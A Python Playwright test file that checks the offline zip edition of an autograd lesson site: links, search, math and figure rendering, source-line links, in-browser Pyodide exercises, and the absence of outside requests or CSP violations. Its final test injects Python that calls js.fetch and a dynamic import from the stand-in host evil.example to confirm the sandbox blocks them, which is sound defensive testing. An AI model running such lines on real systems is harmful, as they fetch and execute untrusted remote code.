"""The offline edition (lessonkit.site.offline), unzipped and opened from disk in Debian's Chromium:
links land on pages, search answers a typed query, formulas and figures render, the source
browser's line links work, Mini's exercises run (lessonkit.site.offline_runtime) and report what
pytest reports, and the pages request nothing but their own files (and the blob: URLs of the
search worker and the exercise worker, made in the page) with 0 Content-Security-Policy violations.

The zip is the one the session's real build wrote into its site; the home page links it with
its size."""

from __future__ import annotations

import io
import json
import posixpath
import sys
import zipfile
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from lessonkit.site import offline, offline_runtime
from lessonkit.util import markup

sys.path.insert(0, str(Path(__file__).parent))
from test_browser_exercise import by_pytest  # noqa: E402, F401 - the fixture, asked for by name below
from test_exercise_runner import EXERCISES, FIXES, MINI, STAGES, one_function_fixed  # noqa: E402

ZIP = "downloads/autograd-offline.zip"
TOP = "autograd-offline"
RECORD = """
window.__csp = [];
document.addEventListener("securitypolicyviolation", e => window.__csp.push(
  [e.effectiveDirective, e.blockedURI, (e.sample || "").slice(0, 60)]));
"""


@pytest.fixture(scope="module")
def edition(built_site, tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("offline")
    zipfile.ZipFile(built_site / ZIP).extractall(out)
    return out / TOP


@pytest.fixture
def tab(browser):
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    context.add_init_script(RECORD)
    page = context.new_page()
    page.requests = []  # type: ignore[attr-defined]
    page.messages = []  # type: ignore[attr-defined]
    context.on("request", lambda r: page.requests.append(r.url))
    page.on("console", lambda m: page.messages.append((m.type, m.text)))
    page.on("pageerror", lambda e: page.messages.append(("pageerror", str(e))))
    yield page
    context.close()


def test_the_home_page_links_the_edition_with_its_size_and_search_leaves_the_link_out(built_site):
    tree = markup.parse((built_site / "index.html").read_text(encoding="utf-8"))
    spans = tree.css("span.lk-offline")
    assert len(spans) == 1
    link = spans[0].css_first("a")
    assert link is not None and link.attributes.get("href") == ZIP
    size = (built_site / ZIP).stat().st_size
    shown = spans[0].css_first("data.lk-offline-size")
    assert (shown.text(), shown.attributes.get("value")) == (f"{size / 2**20:.1f} MiB", str(size))
    assert "data-search-exclude" in spans[0].attributes
    # the section is in the index, without a word of the link's sentence (the size, the path, or
    # the text after the size: Material ends an exclusion at the first end tag of the same name)
    index = json.loads((built_site / "search/search_index.json").read_text(encoding="utf-8"))
    entry = next(d for d in index["docs"] if d["location"] == "#offline")
    text = entry["text"].replace("\u200b", "")
    sentence = spans[0].text().strip()
    assert "离线版是本站页面的完整副本" in text
    assert sentence[:4] not in text and sentence[-6:] not in text and "MiB" not in text, text[:80]


def test_every_link_of_the_edition_lands_on_a_file_of_it(edition):
    """Every relative link of every page names a file of the edition (no folder, no missing file),
    and no page names another host in anything it loads."""
    pages = sorted(p.relative_to(edition).as_posix() for p in edition.rglob("*.html"))
    assert len(pages) > 100 and "404.html" not in pages
    folders, missing, checked = [], [], 0
    for rel in pages:
        tree = markup.parse((edition / rel).read_text(encoding="utf-8"))
        for node in tree.css("a[href], link[href], script[src], img[src]"):
            value = node.attributes.get("href") or node.attributes.get("src") or ""
            parts = urlsplit(value)
            if parts.scheme or parts.netloc or not parts.path:
                continue
            checked += 1
            target = edition / posixpath.normpath(posixpath.join(posixpath.dirname(rel), parts.path))
            if target.is_dir():
                folders.append((rel, value))
            elif not target.is_file():
                missing.append((rel, value))
    assert checked > 5000 and folders == [] and missing == []


def test_the_edition_is_the_written_site_made_again_byte_for_byte(built_site, real_project, tmp_path):
    """The zip is reproducible from the site it came from, and one changed byte in one of its pages
    is found (what verify --site checks)."""
    words = real_project.site.labels
    site = offline.read_site(built_site)
    args = (ZIP, words["offline-here"], words["exercise-offline"], "site")
    assert offline.problems(site, *args) == []
    data = site[ZIP]
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        entries = {i.filename: zf.read(i) for i in zf.infolist()}
    page = f"{TOP}/lessons/05-reverse-mode/index.html"
    entries[page] = entries[page].replace(b"index.html", b"index.htm", 1)
    changed = io.BytesIO()
    with zipfile.ZipFile(changed, "w") as zf:
        for name, body in entries.items():
            zf.writestr(zipfile.ZipInfo(name, date_time=(2025, 12, 1, 0, 0, 0)), body)
    found = offline.problems({**site, ZIP: changed.getvalue()}, *args)
    assert [p.message for p in found] == [
        f"the offline edition is not this site's: {page} differs from the edition of this site",
        f"the page gives the offline edition's size as {offline.size_text(len(data))!r}; it is "
        f"{offline.size_text(len(changed.getvalue()))} ({len(changed.getvalue())} bytes)",
    ]


def _violations(tab) -> list:
    return tab.evaluate("window.__csp") + [m for m in tab.messages if m[0] in ("error", "warning", "pageerror")]


def _search(tab, query: str) -> list[str]:
    tab.locator(".md-search__input").first.click()
    tab.type(".md-search__input", query, delay=15)
    tab.wait_for_selector(".md-search-result__item", timeout=30000)
    tab.wait_for_timeout(300)
    return tab.eval_on_selector_all(".md-search-result__item > a", "els => els.map(e => e.href)")


def test_the_edition_works_from_file_urls_and_requests_nothing_else(edition, tab):
    home = (edition / "index.html").as_uri()
    tab.goto(home, wait_until="load")
    # links across lessons: the navigation, then the lesson's own line to the next one
    tab.locator("a.md-nav__link[href='lessons/01-ad-and-graph/index.html']").first.click()
    tab.wait_for_load_state("load")
    assert tab.url == (edition / "lessons/01-ad-and-graph/index.html").as_uri()
    assert tab.locator("h1").first.inner_text().startswith("01")
    tab.locator("article a[href='../02-jvp-vjp/index.html']").last.click()
    tab.wait_for_load_state("load")
    assert tab.url == (edition / "lessons/02-jvp-vjp/index.html").as_uri()
    # search, typed: the best page first, and its link opens the page
    found = _search(tab, "反向传播")
    lesson05 = (edition / "lessons/05-reverse-mode/index.html").as_uri()
    assert any(h.split("?")[0] == lesson05 for h in found[:3]), found[:5]
    tab.locator(".md-search-result__item > a").first.click()
    tab.wait_for_load_state("load")
    assert tab.url.split("?")[0].split("#")[0] in [h.split("?")[0].split("#")[0] for h in found[:1]]
    # a formula (MathML in the site's own math font) and a figure (an SVG with its own style)
    tab.goto(lesson05, wait_until="load")
    tab.evaluate("document.fonts.ready")
    math = tab.evaluate(
        "(() => { const m = document.querySelector('article math'); const r = m.getBoundingClientRect();"
        " return [r.width > 0 && r.height > 0, getComputedStyle(m).fontFamily,"
        " document.fonts.check('16px \"STIX Two Math\"'),"
        " [...document.fonts].some(f => f.family.includes('STIX Two Math') && f.status === 'loaded')]; })()"
    )
    assert math[0] is True and "STIX Two Math" in math[1] and math[3] is True, math
    figure = tab.evaluate(
        "(() => { const s = document.querySelector('figure.lk-figure svg'); const r = s.getBoundingClientRect();"
        " return [r.width, s.querySelectorAll('text').length]; })()"
    )
    assert figure[0] > 100 and figure[1] > 0, figure
    # the source browser: a source link of a lesson lands on its line
    link = tab.locator("article a[href*='source/autograd/core.py/index.html#L']").first
    href = link.get_attribute("href")
    link.click()
    tab.wait_for_load_state("load")
    assert tab.url.startswith((edition / "source/autograd/core.py/index.html").as_uri() + "#L")
    assert href and tab.url.endswith("#" + href.split("#")[1])
    numbers = [int(n) for n in href.split("#L")[1].split("-L")]
    want = [f"L{n}" for n in range(numbers[0], numbers[-1] + 1)]
    tab.wait_for_selector(".lk-line.lk-hl")
    assert tab.eval_on_selector_all(".lk-line.lk-hl", "els => els.map(e => e.id)") == want
    others = [u for u in tab.requests if not u.startswith("file://")]
    assert len(tab.requests) > 20
    assert [u for u in others if not u.startswith("blob:null/")] == [], others
    assert _violations(tab) == []


def test_no_page_of_the_edition_breaks_its_policy_or_requests_anything_else(edition, tab):
    """Every page opened from disk: 0 policy violations, 0 console errors, only file: requests and
    one blob: (the search worker, made in the page)."""
    pages = sorted(p.relative_to(edition).as_posix() for p in edition.rglob("*.html"))
    broken = {}
    for rel in pages:
        tab.messages.clear()
        tab.requests.clear()
        tab.goto((edition / rel).as_uri(), wait_until="load")
        blobs = [u for u in tab.requests if u.startswith("blob:null/")]
        found = _violations(tab) + [u for u in tab.requests if not u.startswith(("file://", "blob:null/"))]
        if found or len(blobs) != 1:
            broken[rel] = (found[:3], len(blobs))
    assert len(pages) > 100 and broken == {}


LESSON = "lessons/14-mini-autograd/index.html"


class OfflineReader:
    """Lesson 14 of the edition opened from disk: every request of the page and its workers, the
    policy violations the page and the workers report, console errors."""

    def __init__(self, browser, edition: Path):
        self.context = browser.new_context(viewport={"width": 1280, "height": 900})
        self.context.add_init_script(RECORD)
        self.requests: list[str] = []
        self.messages: list[tuple[str, str]] = []
        self.context.on("request", lambda r: self.requests.append(r.url))
        self.page = self.context.new_page()
        self.page.on("console", lambda m: self.messages.append((m.type, m.text)))
        self.page.on("pageerror", lambda e: self.messages.append(("pageerror", str(e))))
        self.page.on("worker", lambda w: w.on("console", lambda m: self.messages.append(("worker " + m.type, m.text))))
        self.page.goto((edition / LESSON).as_uri(), wait_until="load")
        self.page.wait_for_function("document.querySelector('.lk-exercise') && window.lessonkitExercise")

    def block(self, stage: int):
        return self.page.locator(f"#exercise-stage_{stage}")

    def run(self, stage: int, text: str | None) -> dict[str, str]:
        b = self.block(stage)
        if text is not None:
            b.locator("textarea").fill(text)
        b.locator('[data-lk-action="run"]').click()
        self.page.wait_for_function(
            "el => !el.dataset.lkBusy",  # Run sets it at once; the outcome, a failure or Stop clears it
            arg=b.element_handle(),
            timeout=300000,
        )
        assert b.locator(".lk-ex-summary").count() == 1, b.locator(".lk-ex-result").inner_text()
        return {
            li.get_attribute("data-test"): li.get_attribute("data-outcome") for li in b.locator("li.lk-ex-test").all()
        }

    def elsewhere(self) -> list[str]:
        """Requests for anything but the edition's files and the blob: URLs the page made."""
        return [u for u in self.requests if not u.startswith(("file://", "blob:null/"))]

    def violations(self) -> list:
        said = [m for m in self.messages if m[0].endswith(("error", "warning")) or "Content Security" in m[1]]
        return self.page.evaluate("window.__csp") + said


@pytest.fixture(scope="module")
def offline_reader(browser, edition):
    r = OfflineReader(browser, edition)
    yield r
    r.context.close()


def test_an_exercise_of_the_edition_says_what_its_first_run_reads_and_loads_nothing_before(edition, offline_reader):
    parts = [edition / offline_runtime.OUT / name for name in offline_runtime.PARTS]
    mb = f"{sum(p.stat().st_size for p in parts) / 1048576:.1f}"
    assert float(mb) > 10
    tab = offline_reader.page
    blocks = tab.locator(".lk-exercise")
    assert blocks.count() == len(STAGES) and tab.locator(".lk-exercise-offline").count() == 0
    for k in range(len(STAGES)):
        note = blocks.nth(k).locator("p.lk-ex-note").inner_text()
        assert note.startswith("离线版也能在本浏览器里运行这些检查") and f"（Pyodide，{mb} MB，只读一次）" in note
        assert blocks.nth(k).get_attribute("data-lk-size") == mb
    # the editor is the repository's starting file; nothing of the runtime is read before Run
    assert blocks.first.locator("textarea").input_value() == (EXERCISES / "stage_1.py").read_text(encoding="utf-8")
    assert [u for u in offline_reader.requests if "pyodide" in u] == []
    assert any(u.endswith("/assets/exercise/exercise.js") for u in offline_reader.requests)
    assert offline_reader.elsewhere() == [] and offline_reader.violations() == []


@pytest.mark.parametrize("stage", STAGES)
def test_each_stage_runs_from_disk_and_reports_what_pytest_reports(edition, offline_reader, request, stage):
    """As the site's test (test_browser_exercise) asserts: the starting file fails every check that
    runs, Mini passes every one, one completed function passes exactly its checks."""
    reported = request.getfixturevalue("by_pytest")  # the site's test's fixture: what real pytest reports

    def expected(variant):
        return {t: o for (s, t), o in reported[variant].items() if s == stage}

    shipped = offline_reader.run(stage, None)
    assert shipped == expected("shipped")
    assert set(shipped.values()) == {"failed", "skipped"}
    reads = [u for u in offline_reader.requests if "/pyodide/" in u]
    assert reads == [(edition / offline_runtime.OUT / n).as_uri() for n in offline_runtime.PARTS]  # once
    reference = offline_reader.run(stage, MINI.read_text(encoding="utf-8"))
    assert reference == expected("reference")
    assert set(reference.values()) == {"passed", "skipped"}
    if stage in FIXES:
        name, want = FIXES[stage]
        fixed = offline_reader.run(stage, one_function_fixed(stage, name))
        assert fixed == expected("fixed")
        passed = {t for t, o in fixed.items() if o == "passed"}
        ran = {t for t, o in fixed.items() if o != "skipped"}
        assert passed == (ran if want == "every check that runs" else want)
    assert offline_reader.elsewhere() == [] and offline_reader.violations() == []


def test_code_in_the_editor_of_the_edition_reaches_no_other_host(offline_reader):
    """The worker's fetch answers only the runtime's own files; eval is refused by the policy."""
    hostile = (
        (EXERCISES / "stage_1.py").read_text(encoding="utf-8")
        + "\nimport js\n"
        + "js.fetch('http://evil.example/fetched')\n"
        + "js.eval(\"import('http://evil.example/imported.js')\")\n"
    )
    offline_reader.run(1, hostile)
    offline_reader.page.wait_for_timeout(1000)
    assert offline_reader.elsewhere() == []
    offline_reader.block(1).locator('[data-lk-action="reset"]').click()
